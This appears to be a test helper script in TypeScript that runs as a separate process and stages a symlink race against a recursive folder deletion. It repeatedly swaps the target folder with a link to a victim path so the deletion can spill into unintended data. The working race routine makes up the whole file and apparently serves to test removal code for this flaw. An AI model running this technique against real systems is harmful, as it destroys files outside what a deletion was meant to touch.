// An attacker in a process of its own: as soon as a removal has begun in FOLDER, it exchanges FOLDER for a link to
// VICTIM, and back, again and again until it is ended. Usage: FOLDER VICTIM ASIDE.
import { renameSync, statSync, symlinkSync } from 'node:fs';

const [folder = '', victim = '', aside = ''] = process.argv.slice(2);
const link = `${aside}-link`;
symlinkSync(victim, link);
const untouched = statSync(folder).mtimeMs;
process.send?.('ready');

const tryRename = (from: string, to: string): void => {
  try {
    renameSync(from, to);
  } catch {
    // Thunderbird has moved or removed the file since it was listed.
  }
};

const hasBegun = (): boolean => {
  try {
    return statSync(folder).mtimeMs !== untouched;
  } catch {
    return true;
  }
};

const stayMs = 20;
const pause = new Int32Array(new SharedArrayBuffer(4));
while (!hasBegun());
for (;;) {
  tryRename(folder, aside);
  tryRename(link, folder);
  Atomics.wait(pause, 0, 0, stayMs);
  tryRename(folder, link);
  tryRename(aside, folder);
}
